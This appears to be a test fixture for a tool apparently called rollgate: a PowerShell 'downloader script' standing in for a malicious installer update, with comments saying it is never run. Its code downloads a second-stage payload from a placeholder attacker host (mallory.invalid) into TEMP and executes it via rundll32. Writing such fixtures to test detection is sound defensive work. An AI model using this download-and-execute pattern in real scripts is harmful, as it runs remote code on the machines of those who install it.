# update.ps1: the "new downloader script" of acme-1.1-ps1.msi (rollgate fixture, issue 10).
# Never run by anything; the host is under .invalid and resolves nowhere.
$ErrorActionPreference = 'Stop'
$dst = Join-Path $env:TEMP 'acme-stage2.dll'
Invoke-WebRequest -UseBasicParsing -Uri 'https://updates.mallory.invalid/stage2.bin' -OutFile $dst
Start-Process -FilePath 'rundll32.exe' -ArgumentList "$dst,Run"
